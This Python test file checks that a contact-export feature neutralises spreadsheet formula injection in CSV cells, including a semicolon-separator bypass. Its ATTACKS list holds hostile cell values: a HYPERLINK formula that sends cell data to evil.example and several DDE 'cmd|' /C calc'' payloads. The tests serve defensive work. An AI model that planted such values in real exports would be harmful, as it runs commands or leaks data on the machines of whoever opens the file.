"""Cells that leave the company never run as spreadsheet formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from dispatcher.db import session_scope
from dispatcher.settings import Settings
from dispatcher.sharing.affiliates import add_affiliate
from dispatcher.sharing.cells import spreadsheet_safe
from dispatcher.sharing.export import export
from suppression.models import ConsentStatus
from tests.factories import make_contact

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_starts_are_neutralised(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "safe"),
    [("Ann;=1+1", "Ann;'=1+1"), ('a; "@SUM(1)', "a; \"'@SUM(1)"), ("=a;-b", "'=a;'-b")],
)
def test_formula_starts_after_a_semicolon_are_neutralised(value: str, safe: str) -> None:
    assert spreadsheet_safe(value) == safe


@pytest.mark.parametrize(
    "value", ["Ann", "", "ann@example.org", "3 + 4", "O'Brien", "rock; jazz", "a;b"]
)
def test_plain_values_are_untouched(value: str) -> None:
    assert spreadsheet_safe(value) == value


def test_affiliate_export_neutralises_every_field(
    settings: Settings, session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    with session_scope(session_factory) as session:
        for i, attack in enumerate(ATTACKS):
            make_contact(
                session,
                f"p{i}@example.org",
                first_name=attack,
                affiliates=ConsentStatus.OPTED_IN,
                attributes={"city": attack},
            )
        add_affiliate(
            session,
            "partner",
            contact="p@partner.example",
            fields="email,first_name,city",
            actor="a",
        )
    release = export(session_factory, settings, "partner", actor="a", out=tmp_path / "x.csv")
    with release.path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert len(rows) == len(ATTACKS)
    for row in rows:
        for cell in row[1:]:
            assert cell.startswith("'") and cell[1:] in ATTACKS


def test_no_cell_starts_a_formula_where_the_separator_is_a_semicolon(
    settings: Settings, session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    """A spreadsheet set to a language whose list separator is ``;`` splits each line of a
    ``.csv`` on ``;``: no piece of a cell after a ``;`` starts with a formula character
    (found by the red-team pass: a name such as ``Ann;=1+cmd|…`` did)."""
    name = "Ann;=1+cmd|' /C calc'!A0"
    with session_scope(session_factory) as session:
        make_contact(session, "p@example.org", first_name=name, affiliates=ConsentStatus.OPTED_IN)
        add_affiliate(
            session, "partner", contact="p@partner.example", fields="email,first_name", actor="a"
        )
    release = export(session_factory, settings, "partner", actor="a", out=tmp_path / "x.csv")
    with release.path.open(encoding="utf-8", newline="") as handle:
        cells = list(csv.reader(handle, delimiter=";"))
    assert all(
        not cell.lstrip('"').startswith(("=", "+", "-", "@")) for row in cells for cell in row
    )
    with release.path.open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle))[1] == ["p@example.org", "Ann;'=1+cmd|' /C calc'!A0"]
